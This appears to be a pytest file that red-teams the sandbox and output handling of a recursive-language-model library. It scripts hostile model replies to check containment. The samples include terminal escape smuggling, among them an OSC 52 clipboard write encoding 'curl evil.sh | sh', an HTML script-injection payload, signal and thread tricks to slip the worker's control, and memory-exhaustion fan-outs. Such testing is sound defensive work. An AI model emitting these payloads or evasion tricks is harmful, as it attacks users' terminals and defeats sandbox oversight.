"""Eighth attack round: the fixes of round 7 (the worker stopped between requests, terminal-safe
output, readable graph files) and what is around them: signal and job-control tricks with the
Python policy off, sessions and sub-calls against a stopped worker, deep typed answers, `rlm view`
of files from hostile runs, huge batched arguments.

Five holes were open when this round was written (the xfail tests; reproductions and causes in
the round's HOLES.md): a lone surrogate in the model's reply raises out of `run()` when a history
or HTML graph is written, and ends `rlm ask` and a whole batch; lone surrogates in the range
`surrogateescape` turns into bytes pass the terminal filter and reach the terminal as C1 controls
(OSC 52, CSI) and bidi overrides; a batch item that fails (its `item_timeout`) is charged no LM
calls, so `budget_calls` lets the batch spend without bound; nested batched sub-calls make the host
hold a frame per live node (~1 GB from a 12-character context); "<!--" in model text leaves the
HTML view's data block unparsable.
"""

from __future__ import annotations

import io
import json
import sys
import textwrap
from pathlib import Path

import pytest

from rlm import RLM
from rlm.batch import batch
from rlm.cli.main import main
from rlm.sandbox.base import SandboxLimits
from rlm.sandbox.local import LocalSandbox, jail
from rlm.testing import FakeOpenAIServer, scripted_lm
from tests.sandbox.conftest import (
    assert_refused_and_box_intact,
    attempt,
    code,
    idle_cpu_seconds,
    no_calls,
    peak_growth_mb,
)

pytestmark = pytest.mark.skipif(not jail.probe().available, reason=f"no OS jail here: {jail.probe().problem}")


def _terminal_streams(monkeypatch) -> tuple[io.TextIOWrapper, io.TextIOWrapper]:
    """sys.stdout and sys.stderr as Python sets them up for a terminal under a UTF-8 or POSIX locale."""
    stdout = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="surrogateescape", write_through=True)
    stderr = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="backslashreplace", write_through=True)
    monkeypatch.setattr(sys, "stdout", stdout)
    monkeypatch.setattr(sys, "stderr", stderr)
    return stdout, stderr


def _ask_in_process(reply: str, tmp_path: Path, monkeypatch, *extra: str) -> bytes:
    """What `rlm ask` writes to the terminal when the model replies `reply` (over the real HTTP path)."""
    document = tmp_path / "doc.txt"
    document.write_text("a document")
    server = FakeOpenAIServer(lambda body: reply).start()
    try:
        stdout, stderr = _terminal_streams(monkeypatch)
        code = main(["ask", "q?", "--context", str(document), "--model", "openai/test-model",
                     "--api-base", server.base_url, *extra])  # fmt: skip
    finally:
        server.stop()
    shown: bytes = stdout.buffer.getvalue() + stderr.buffer.getvalue()
    assert code == 0, shown
    return shown


# --- hole 1: a lone surrogate in the model's reply raises out of run() ------------------------------
# The sandbox's channel replaces lone surrogates; the model's reply (a FINAL in prose, any text the
# provider's JSON decodes from "\ud800") reaches the host's writers and printers untouched.
SURROGATE_REPLY = "Done.\nFINAL(the answer \ud800 is 42)"


@pytest.mark.parametrize("graph", ["run.html", "run.json"])
def test_a_lone_surrogate_in_the_reply_does_not_raise_out_of_run_when_files_are_written(tmp_path, graph):
    lm, _ = scripted_lm([SURROGATE_REPLY])
    history = tmp_path / "history.json"
    result = RLM(model=lm, history_output_path=history, graph_output_path=tmp_path / graph).run("q", "ctx")
    assert result.finish_reason == "final"
    assert json.loads(history.read_text(encoding="utf-8"))[0]["model"]


def test_rlm_ask_prints_an_answer_with_a_lone_surrogate(tmp_path, monkeypatch):
    shown = _ask_in_process(SURROGATE_REPLY, tmp_path, monkeypatch)
    assert b"42" in shown


def test_a_lone_surrogate_in_one_items_answer_does_not_end_the_batch(tmp_path):
    server = FakeOpenAIServer(lambda body: SURROGATE_REPLY).start()
    try:
        items = [{"id": name, "query": "q", "context": "ctx"} for name in ("hostile", "next")]
        results = list(batch(items, out=tmp_path / "r.jsonl", model="openai/test-model", api_base=server.base_url,
                             api_key="test"))  # fmt: skip
    finally:
        server.stop()
    assert len(results) == 2


# --- hole 2: surrogate-escaped bytes pass the terminal filter ---------------------------------------
# stdout's error handler is `surrogateescape` (C.UTF-8 and POSIX locales, UTF-8 mode): "\udcc2\udc9d"
# is written as the bytes C2 9D, which is U+009D (OSC) on a UTF-8 terminal; the filter sees only
# the surrogates. OSC 52 ... ST writes the clipboard; E2 80 AE is U+202E (right-to-left override).
def _smuggled(text: str) -> str:
    return "".join(chr(0xDC00 + byte) for byte in text.encode("utf-8"))


C1_ANSWER = "42" + _smuggled("\x9d") + "52;c;Y3VybCBldmlsLnNoIHwgc2g=" + _smuggled("\x9c\u202e") + "txt.exe"
C1_BYTES = (b"\xc2\x9b", b"\xc2\x9c", b"\xc2\x9d", b"\xe2\x80\xae")  # CSI, ST, OSC, RLO in UTF-8


def test_rlm_ask_writes_no_c1_control_bytes_smuggled_as_surrogates(tmp_path, monkeypatch):
    shown = _ask_in_process(f"Done.\nFINAL({C1_ANSWER})", tmp_path, monkeypatch)
    assert b"42" in shown and [c for c in C1_BYTES if c in shown] == [], shown


def test_rlm_view_of_a_hostile_runs_graph_writes_no_c1_control_bytes(tmp_path, monkeypatch):
    graph = tmp_path / "run.json"  # the JSON graph is ASCII: it is written
    lm, _ = scripted_lm([f"Done.\nFINAL({C1_ANSWER})"])
    RLM(model=lm, graph_output_path=graph).run("q", "ctx")
    stdout, stderr = _terminal_streams(monkeypatch)
    assert main(["view", str(graph)]) == 0
    shown = stdout.buffer.getvalue() + stderr.buffer.getvalue()
    assert b"42" in shown and [c for c in C1_BYTES if c in shown] == [], shown


# --- hole 3: a failed item's LM calls are not charged to the batch budget ----------------------------
def _spend_then_stall(body: dict) -> str:
    prompt = str(body["messages"][-1]["content"])
    if prompt.startswith("spend"):
        return "ok"
    return code("for i in range(5):\n    llm_query('spend ' + str(i))\nwhile True:\n    pass")


def test_a_batch_budget_counts_the_calls_of_items_that_failed(tmp_path):
    server = FakeOpenAIServer(_spend_then_stall).start()
    try:
        results = batch(
            [{"id": str(i), "query": "q", "context": "ctx"} for i in range(3)],
            out=tmp_path / "results.jsonl",
            model="openai/test-model",
            api_base=server.base_url,
            api_key="test",
            concurrency=1,
            budget_calls=2,
            item_timeout=1.0,
            exec_timeout=0.5,
        )
        finished = list(results)
    finally:
        server.stop()
    assert all(r.error_class == "TimeoutError" for r in finished)
    # Every request the provider billed is charged; the first item alone spends the budget.
    assert results.budget.spent_calls >= len(server.requests) and results.stats.not_started == 2


# --- hole 4: nested batched sub-calls make the host hold a frame per live node -------------------------
# Each node may send one frame of 64 MiB plus twice its context; 16 live nodes (the default
# max_live_sandboxes) may each hold one on the host at once, waiting for a slot for their children.
FAN_ROOT = code("print(recursive_llm_batched([('child-q', 'x' * 4_000_000 + str(i)) for i in range(15)])[0][:40])\n"
                "FINAL('root')")  # fmt: skip
FAN_CHILD = code("print(recursive_llm_batched([('leaf-q', 'y' * 4_000_000 + str(i)) for i in range(17)])[0][:40])\n"
                 "FINAL('child')")  # fmt: skip


def _fan_out(body: dict) -> str:
    prompt = str(body["messages"][-1]["content"])
    if "Query: child-q" in prompt:
        return FAN_CHILD
    if "Query: root-q" in prompt:
        return FAN_ROOT
    return "FINAL(leaf)"


def test_nested_batched_sub_calls_keep_the_hosts_memory_near_one_frame():
    server = FakeOpenAIServer(_fan_out).start()
    try:
        rlm = RLM(model="openai/test-model", api_base=server.base_url, api_key="test", max_depth=3, exec_timeout=6,
                  max_iterations=1)  # fmt: skip
        grew, result = peak_growth_mb(lambda: rlm.run("root-q", "root context"))
    finally:
        server.stop()
    assert result.answer == "root"
    # One frame's cap (64 MiB + twice a 4 MB slice) and its decoded copy is what the design allows at once.
    assert grew < 256, f"host memory grew by {grew} MB"


# --- the stopped worker, with the policy off (held) ----------------------------------------------------
SELF_SIGNALS = {
    "sigtstp": "import signal\nsignal.raise_signal(signal.SIGTSTP)\nresult = 'raised'",
    "sigttin": "import signal\nsignal.raise_signal(signal.SIGTTIN)\nresult = 'raised'",
    "sigttou": "import os, signal\nos.kill(os.getpid(), signal.SIGTTOU)\nresult = 'sent'",
    "sigstop-self": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nresult = 'sent'",
    "sigcont-group": "import os, signal\nos.killpg(0, signal.SIGCONT)\nresult = 'sent'",
    "thread": "import threading\nthreading.Thread(target=lambda: None).start()\nresult = 'thread'",
    "tcsetpgrp": "import os\nresult = os.tcsetpgrp(0, os.getpid())",
}


@pytest.mark.parametrize("action", list(SELF_SIGNALS.values()), ids=list(SELF_SIGNALS))
def test_the_worker_can_neither_signal_itself_nor_start_threads_that_outlive_a_request(unrestricted, action):
    # A thread or a job-control stop of its own would let code run (or stall) out of the host's rhythm.
    assert attempt(unrestricted, action).startswith("DENIED:")


SIGCONT_SPINS = """
import signal
def spin(signum, frame):
    while True:
        pass
signal.signal(signal.SIGCONT, spin)
"""


def test_a_sigcont_handler_that_never_returns_costs_one_step_and_the_worker_is_replaced():
    with LocalSandbox(SandboxLimits(exec_timeout=1.0), python_policy=False) as box:
        box.load("context")
        assert box.execute(textwrap.dedent(SIGCONT_SPINS), no_calls).error is None
        stalled = box.execute("print(len(context))", no_calls)  # the continue runs the handler
        assert stalled.restarted and stalled.error.startswith("TimeoutError"), stalled
        assert box.execute("print(len(context))", no_calls).output == "7\n"


@pytest.mark.parametrize(
    "handler",
    [
        "import os\nos._exit(0)",  # the worker ends itself when continued
        "import os\nos.write(4, b'\\x00' * 70000)",  # garbage on the channel before the request is read
        "import os\nos.close(3)",  # its request pipe closed
    ],
    ids=["exits", "garbage", "closes-stdin"],
)
def test_a_sigcont_handler_that_breaks_the_worker_costs_one_step(handler):
    install = "import signal\ndef on_continue(signum, frame):\n" + textwrap.indent(handler, "    ") + "\n"
    install += "signal.signal(signal.SIGCONT, on_continue)"
    with LocalSandbox(SandboxLimits(exec_timeout=1.0), python_policy=False) as box:
        box.load("context")
        assert box.execute(install, no_calls).error is None
        # The handler runs when the worker is continued for the next step. If the host's request is
        # already in the pipe by the time the worker is scheduled (a loaded machine), that step reads it
        # first and the break costs the step after; either way exactly one step is lost.
        outcomes = [box.execute("print(len(context))", no_calls) for _ in range(3)]
        assert [outcome.restarted for outcome in outcomes] in ([True, False, False], [False, True, False]), outcomes
        assert all(outcome.output == "7\n" for outcome in outcomes if not outcome.restarted), outcomes


SIGCONT_AND_TIMERS = """
import signal, time
def burn(signum, frame):
    end = time.monotonic() + 0.05
    while time.monotonic() < end:
        pass
for number in (signal.SIGCONT, signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF, signal.SIGCHLD, signal.SIGTSTP):
    signal.signal(number, burn)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGCONT])  # blocked: the continue still continues
signal.setitimer(signal.ITIMER_VIRTUAL, 0.01, 0.01)
signal.setitimer(signal.ITIMER_PROF, 0.01, 0.01)
"""


def test_handlers_and_timers_left_behind_spend_no_cpu_while_the_host_is_not_waiting():
    with LocalSandbox(SandboxLimits(exec_timeout=1.0), python_policy=False) as box:
        box.load("context")
        assert idle_cpu_seconds(box, SIGCONT_AND_TIMERS, 1.5) < 0.2
        assert box.execute("print(len(context))", no_calls).output == "7\n"


def test_a_session_question_after_a_stalling_sigcont_handler_still_gets_its_answer(policy_off):
    first = code(textwrap.dedent(SIGCONT_SPINS) + "kept = [1, 2]\nFINAL('first')")
    lm, _ = scripted_lm([first, code("FINAL('second')")])
    with RLM(model=lm, sandbox="restricted", exec_timeout=1.0).session("the context") as session:
        assert session.run("one").answer == "first"
        second = session.run("two")  # the variable listing's step stalls: it is the one that pays
    assert second.answer == "second"


def test_a_sub_call_answered_to_a_worker_that_stalls_on_its_continue_does_not_hang_the_run(policy_off):
    root = code(textwrap.dedent(SIGCONT_SPINS) + "print(recursive_llm('look', 'sub'))")
    lm, _ = scripted_lm([root, code("FINAL('after')")])
    child, child_engine = scripted_lm([code("FINAL('child answer')")], model="scripted/sub")
    result = RLM(model=lm, recursive_model=child, sandbox="restricted", exec_timeout=1.0, max_depth=2).run("q", "c")
    assert result.answer == "after"
    assert "restarted" in (result.trajectory[0].error or ""), result.trajectory[0]
    assert len(child_engine.calls) == 1  # the child ran on the host while its parent was stopped


async def test_an_async_run_survives_a_stalling_sigcont_handler(policy_off):
    lm, _ = scripted_lm([code(textwrap.dedent(SIGCONT_SPINS)), code("print(1)"), code("FINAL('done')")])
    result = await RLM(model=lm, sandbox="restricted", exec_timeout=1.0).arun("q", "c")
    assert result.answer == "done" and result.iterations == 3


# --- typed answers and saved files from hostile runs (held) ---------------------------------------------
@pytest.mark.parametrize("depth", [900, 5000])
def test_a_deeply_nested_typed_answer_is_a_value_or_a_refusal_never_an_exception(depth, tmp_path):
    nested = f"FINAL('[' * {depth} + ']' * {depth})"
    lm, _ = scripted_lm([code(nested), code("FINAL('[1]')")])
    path = tmp_path / "run.graphml"
    result = RLM(model=lm, graph_output_path=path).run("q", "ctx", output=list)
    assert result.value is not None
    assert json.loads(json.dumps(result.value, indent=2)) == result.value
    assert main(["view", str(path)]) == 0


HOSTILE_VALUES = {
    "huge": "'x' * 200_000",
    "controls": "''.join(chr(c) for c in range(32)) + chr(0x85) + chr(0x2028) + chr(0x200d) + chr(0xFFFE)",
    "looks-empty": "''",
    "looks-like-a-number": "'nan'",
    "looks-like-json": '\'{"nodes": [], "steps": []}\'',
}


@pytest.mark.parametrize("suffix", [".graphml", ".json"])
@pytest.mark.parametrize("value", list(HOSTILE_VALUES.values()), ids=list(HOSTILE_VALUES))
def test_rlm_view_reads_every_graph_a_hostile_run_writes(tmp_path, capsys, suffix, value):
    path = tmp_path / f"run{suffix}"
    lm, _ = scripted_lm([code(f"print({value})\nFINAL({value})"), code("FINAL('fallback')")])
    RLM(model=lm, graph_output_path=path).run("q", "ctx")
    assert main(["view", str(path)]) == 0
    shown = capsys.readouterr()
    assert not any(c in shown.out + shown.err for c in ("\x1b", "\x07", "\x85", "\x9d")), shown


def test_rlm_view_reads_a_batch_file_whose_rows_hold_odd_values(tmp_path, capsys):
    rows = [
        {"id": "a", "status": "failed", "error": {"nested": [1, 2]}, "error_class": ["x"], "cost": None},
        {"id": "b", "status": "ok", "value": [[[[]]]], "finish_reason": 7, "wall_time_s": None, "llm_calls": None},
        {"id": "c", "status": "failed", "error": "\x1b]52;c;Y3Vy\x07" + "e" * 10_000},
    ]
    path = tmp_path / "results.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert main(["view", str(path)]) == 0
    shown = capsys.readouterr().out
    assert "3: 1 ok, 2 failed" in shown and "\x1b" not in shown


def test_rlm_view_of_a_hostile_runs_history_shows_no_terminal_controls(tmp_path, capsys):
    history = tmp_path / "history.json"
    reply = "\x1b]52;c;Y3Vy\x07\x9b2J\u202e" + code(
        "print(chr(27) + '[2J' + chr(0x9d))\nFINAL(chr(27) + ']0;t' + chr(7))"
    )
    lm, _ = scripted_lm([reply])
    RLM(model=lm, history_output_path=history).run("q", "ctx")
    assert main(["view", str(history), "--detailed"]) == 0
    shown = capsys.readouterr()
    assert not any(c in shown.out + shown.err for c in ("\x1b", "\x07", "\x9b", "\x9d", "\u202e")), shown


HTML_HOSTILE = "'</script><script>alert(1)</script>' + '</SCRIPT >' + '<!--<script>' + chr(0x2028)"


def _html_data_block(tmp_path: Path) -> tuple[str, str]:
    path = tmp_path / "run.html"
    lm, _ = scripted_lm([code(f"print({HTML_HOSTILE})\nFINAL({HTML_HOSTILE})")])
    RLM(model=lm, graph_output_path=path).run("q", "ctx")
    page = path.read_text(encoding="utf-8")
    return page, page.split('<script type="application/json" id="graph-data">', 1)[1].split("</script>", 1)[0]


def test_the_html_view_keeps_model_text_inside_its_data_block(tmp_path):
    page, data = _html_data_block(tmp_path)
    assert "alert(1)" in data
    # Only the page's two script elements end: model text cannot close the data block and start a script.
    assert page.lower().count("</script") == 2 and "<!--" not in data


def test_the_html_views_data_block_stays_json_whatever_the_model_wrote(tmp_path):
    _, data = _html_data_block(tmp_path)
    answer = json.loads(data)["nodes"][0]["answer"]  # what the page's JSON.parse must read
    assert answer.startswith("</script><script>alert(1)") and "<!--<script>" in answer


# --- host memory: huge batched arguments (held) -----------------------------------------------------------
def test_a_batched_call_past_the_item_cap_is_refused_before_any_lm_call():
    lm, _ = scripted_lm([code("print(llm_query_batched([context] * 257))")] + [code("FINAL('done')")] * 6)
    sub, sub_engine = scripted_lm([], model="scripted/sub")
    result = RLM(model=lm, recursive_model=sub).run("q", "x" * 100_000)
    assert "max_batch_items" in (result.trajectory[0].error or ""), result.trajectory[0]
    assert sub_engine.calls == []  # no copy of the context was sent, or held for sending


def test_a_frame_past_the_cap_restarts_the_worker_instead_of_reaching_the_host(restricted):
    # 70 copies of a 1 MiB prompt: one frame of 70 MiB, over 64 MiB plus twice the context.
    assert_refused_and_box_intact(restricted, "llm_query_batched(['x' * (1 << 20)] * 70)")


def test_huge_prompts_are_refused_before_they_are_sent():
    lm, _ = scripted_lm([code("print(llm_query_batched(['y' * 3_000_000] * 20))")] + [code("FINAL('done')")] * 6)
    sub, sub_engine = scripted_lm([], model="scripted/sub")
    result = RLM(model=lm, recursive_model=sub).run("q", "ctx")
    assert "sub_prompt_chars" in result.trajectory[0].output + (result.trajectory[0].error or "")
    assert sub_engine.calls == []
